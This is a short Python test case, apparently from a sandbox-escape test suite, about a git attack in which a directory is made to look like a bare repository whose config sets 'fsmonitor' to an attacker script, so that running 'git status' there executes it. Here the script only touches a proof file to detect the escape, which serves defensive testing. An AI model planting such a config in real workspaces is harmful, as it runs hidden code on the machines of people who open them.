"""Makes a directory look like a bare repository (HEAD, objects, refs, config); git in it runs what
its config names.

layer: sweep
control: without a sandbox the operator's `git status` there runs the attacker's program
"""
import os

NEEDS = ["git"]


def scene(s):
    s.ws = s.cwd = s.t.git_repo({"docs/a.txt": "x\n"})
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    for name in ("docs/objects", "docs/refs/heads"):
        os.makedirs(name)
    put("docs/HEAD", "ref: refs/heads/main\n")
    put("docs/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n"
        f"\tfsmonitor = {a['ws']}/evil.sh\n")


def escaped(s, r):
    s.t.run("git", "status", cwd=os.path.join(s.ws, "docs"))
    return os.path.exists(s.proof)
